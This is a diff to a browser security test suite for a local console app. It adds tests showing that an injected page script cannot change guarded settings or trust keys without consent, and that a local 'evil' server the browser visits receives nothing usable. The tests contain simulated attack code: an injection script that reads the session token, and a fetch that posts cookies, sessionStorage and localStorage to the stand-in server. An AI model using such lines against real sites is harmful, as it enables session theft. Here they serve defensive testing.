@@ -4,19 +4,39 @@ import assert from 'node:assert/strict'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { test } from 'node:test'
+import type { Consent } from '../../host/consent.ts'
+import { createSigningKey } from '../../src-shared/node/signing-key.ts'
+import { visit } from '../../src-shared/testing/web-visitor.ts'
 import { openWindow, type Window } from './browser.ts'
+import { en } from './hands.ts'
 import { browserOnly, consoleSpec } from './spec.ts'
 
-const spec = consoleSpec({ disks: ['alpha', 'beta'] })
+const asked: unknown[] = []
+const refuse: Consent = {
+  write: null,
+  async change(changes) {
+    asked.push(changes)
+    return 'the terminal answered no'
+  },
+}
+const spec = consoleSpec({ disks: ['alpha', 'beta'], settings: { neverTouch: ['SN-PRECIOUS'] }, consent: refuse })
 const { skip } = spec
 
 /** A script in the page with a line of its own to the host: what an injected one would have. The app's bridge is that line. */
 const INJECT = `window.attack = window.twinslot ? (call, params) => window.twinslot.call({ id: 1, call, params }) : (() => {
   const line = new WebSocket('ws://' + location.host + '/ws')
-  const open = new Promise((resolve, reject) => { line.onopen = resolve; line.onerror = () => reject(new Error('refused')) })
+  // What the page holds, a script in it holds as well.
+  const open = new Promise((resolve, reject) => {
+    line.onopen = () => line.send(JSON.stringify({ session: sessionStorage.getItem('twinslot.session') }))
+    line.onerror = () => reject(new Error('refused'))
+    line.onmessage = ({ data }) => {
+      const said = JSON.parse(data)
+      if ('session' in said) resolve()
+      else waiting.get(said.id)?.(said)
+    }
+  })
   const waiting = new Map()
   let last = 0
-  line.onmessage = ({ data }) => { const said = JSON.parse(data); waiting.get(said.id)?.(said) }
   return async (call, params) => {
     await open
     const id = ++last
@@ -76,7 +96,98 @@ test('a path is no token: what the page names is never opened', { skip }, async 
       assert.ok(['host.unknown-token', 'host.bad-call'].includes((await say(call, { file })).problem?.code ?? ''))
 })
 
-test('a page of another origin gets neither a socket nor an answer, even in the browser that has the cookie', {
+const origin = 'addresses of the browser host'
+
+test('what guards a write is not changed by the page: each change asks outside of it, and is refused without a yes', {
+  skip: browserOnly('the box of the app is no page'),
+}, async () => {
+  await using window = await spec.station.open()
+  const say = await attacker(window)
+  const before = await spec.station.view()
+  const [{ fingerprint }] = before.keys
+  const key = await createSigningKey({ name: 'Mallory', now: new Date('2026-01-01') })
+  const tried: readonly (readonly [string, unknown])[] = [
+    ['trust.import', { armored: key.public }],
+    ['trust.remove', { fingerprint }],
+    ['settings.change', { assistive: true }],
+    ['settings.change', { neverTouch: [] }],
+    ['settings.change', { theme: 'dark', neverTouch: ['OTHER'] }],
+  ]
+  for (const [call, params] of tried) assert.equal((await say(call, params)).problem?.code, 'host.guarded', call)
+  assert.equal(asked.length, tried.length)
+  const after = await spec.station.view()
+  assert.deepEqual([after.keys, after.settings], [before.keys, before.settings])
+})
+
+test('a foreign port of this computer that the browser visits receives nothing that opens the console', {
+  skip: browserOnly(origin),
+}, async () => {
+  const { web } = spec.station.host
+  await using window = await spec.station.open()
+  const { page } = window
+  const received: string[] = []
+  const server = createServer((request, response) => {
+    let body = ''
+    request.on('data', (part: Buffer) => {
+      body += part.toString('latin1')
+    })
+    request.on('end', () => {
+      received.push(`${request.method} ${request.url} ${JSON.stringify(request.rawHeaders)} ${body}`)
+      response.setHeader('content-type', 'text/html').end('<p>evil</p>')
+    })
+  })
+  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
+  const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  try {
+    const session = String(await page.evaluate(`sessionStorage.getItem('twinslot.session')`))
+    assert.ok(session.length > 20)
+    assert.deepEqual(await page.context().cookies(), [])
+    // A link, and the same tab going there; a second tab; what the page there can do.
+    await page.evaluate(`window.open('${evil}/opened')`).catch(() => null)
+    await page.goto(`${evil}/visited`)
+    await page.evaluate(
+      `fetch('/posted', { method: 'POST', body: JSON.stringify([document.cookie, document.referrer, { ...sessionStorage }, { ...localStorage }, window.name, location.href]) })`,
+    )
+    const tried = await page.evaluate(`Promise.all(['', 'x'.repeat(43)].map((session) => new Promise((resolve) => {
+      const line = new WebSocket('ws://127.0.0.1:${web.port}/ws')
+      line.onopen = () => line.send(JSON.stringify({ session }))
+      line.onmessage = () => resolve('let in')
+      line.onclose = () => resolve('refused')
+    })))`)
+    assert.deepEqual(tried, ['refused', 'refused'])
+    assert.ok(received.length >= 2)
+    for (const line of received) {
+      assert.ok(!line.includes(session), line)
+      assert.doesNotMatch(line, /cookie"|referer|token|enter#/i, line)
+    }
+    // Another user of this computer needs no browser and forges every header; what was received opens nothing.
+    for (const secret of received.flatMap((line) => line.match(/[\w-]{20,}/g) ?? []))
+      assert.equal(await visit(`http://127.0.0.1:${web.port}/enter#${secret}`, secret.slice(0, 100)), null)
+    await page.goBack()
+    await page.locator('#main h1').waitFor()
+  } finally {
+    server.closeAllConnections()
+    await new Promise((done) => server.close(done))
+  }
+})
+
+test('a reload in the same tab goes on; a second tab needs an address of its own', {
+  skip: browserOnly(origin),
+}, async () => {
+  const { web } = spec.station.host
+  await using window = await spec.station.open()
+  const { page } = window
+  await page.reload()
+  await page.locator('#main h1').waitFor()
+  assert.doesNotMatch(page.url(), /enter/)
+  const second = await page.context().newPage()
+  await second.goto(`http://127.0.0.1:${web.port}/`)
+  await second.getByText(en('app.shut')).waitFor()
+  await second.goto(web.newUrl())
+  await second.locator('#main h1').waitFor()
+})
+
+test('a page of another origin gets neither a socket nor an answer', {
   skip: browserOnly('addresses of the browser host'),
 }, async () => {
   const { web } = spec.station.host
@@ -110,17 +221,17 @@ test('a page of another origin gets neither a socket nor an answer, even in the 
   }
 })
 
-test('an address works once, and without one nothing is shown', {
-  skip: browserOnly('addresses of the browser host'),
-}, async () => {
+test('an address works once, and without one nothing is shown', { skip: browserOnly(origin) }, async () => {
   const { web } = spec.station.host
   const address = web.newUrl()
   await using first = await openWindow()
   await first.page.goto(address)
   await first.page.locator('#main h1').waitFor()
   await using second = await openWindow()
-  assert.equal((await second.page.goto(address))?.status(), 403)
-  assert.equal((await second.page.goto(`http://127.0.0.1:${web.port}/`))?.status(), 403)
+  await second.page.goto(address)
+  await second.page.getByText(en('app.shut')).waitFor()
+  await second.page.goto(`http://127.0.0.1:${web.port}/`)
+  await second.page.getByText(en('app.shut')).waitFor()
   const rebound = await second.page.goto(`http://localhost.localdomain:${web.port}/`).catch(() => null)
   assert.ok(rebound === null || rebound.status() === 421)
 })
